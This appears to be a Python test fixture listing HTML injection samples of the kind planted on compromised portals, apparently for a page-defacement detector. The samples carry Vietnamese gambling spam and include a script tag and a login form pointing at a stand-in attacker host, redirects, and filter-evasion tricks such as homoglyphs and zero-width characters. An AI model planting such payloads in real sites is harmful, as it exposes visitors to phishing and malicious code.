"""What is injected, in the forms met on real portals: what it is, the HTML, and a mark by which it would be seen on a page."""

from __future__ import annotations

from dataclasses import dataclass

SITE = "https://nhacai-uytin88.example/"


@dataclass(frozen=True)
class Payload:
    """`mark` stands in the bytes of a page that carries it as it was meant."""

    name: str
    html: str
    mark: str


EVERY = {
    one.name: one
    for one in (
        Payload("text", "<p>Nhà cái uy tín số 1, nổ hũ đổi thưởng, nạp đầu tặng 100%.</p>", "nổ hũ đổi thưởng"),
        Payload("link", f'<p>Xem thêm <a href="{SITE}">tại đây</a>.</p>', SITE),
        Payload(
            "hidden text", '<p style="display:none">Nhà cái uy tín, cá độ bóng đá</p>', "cá độ bóng đá"
        ),
        Payload("script", f'<script src="{SITE}a.js"></script>', "<script src=\"https://nhacai"),
        Payload("frame", f'<iframe src="{SITE}"></iframe>', "<iframe"),
        Payload("meta refresh", f'<meta http-equiv="refresh" content="0;url={SITE}">', "http-equiv=\"refresh\""),
        Payload("form", f'<form action="{SITE}"><input name="p"><button>Đăng nhập</button></form>', "<form action=\"https://nhacai"),
        Payload("picture from elsewhere", f'<img src="{SITE}banner.gif" alt="Khuyến mãi">', f"{SITE}banner.gif"),
        Payload("event handler", f'<p onclick="location=\'{SITE}\'">Bấm vào đây</p>', "onclick="),
        Payload("look-alike letters", "<p>Nhà сái uу tín, nổ hũ, tài хỉu.</p>", "сái"),  # Cyrillic с, у, х
        Payload("split across elements", "<p><b>nhà</b> <i>c</i><b>ái</b> <i>u</i>y <b>tín</b> nổ <b>h</b>ũ</p>", "<i>c</i>"),
        Payload("zero-width letters", "<p>n\u200bhà c\u200bái u\u200by tín, n\u200bổ h\u200bũ</p>", "n\u200bhà"),
        Payload("overwritten agency name", "<p>Ủy ban nhân dân Kubet tỉnh Thử Nghiệm thông báo.</p>", "Kubet"),
    )
}  # fmt: skip
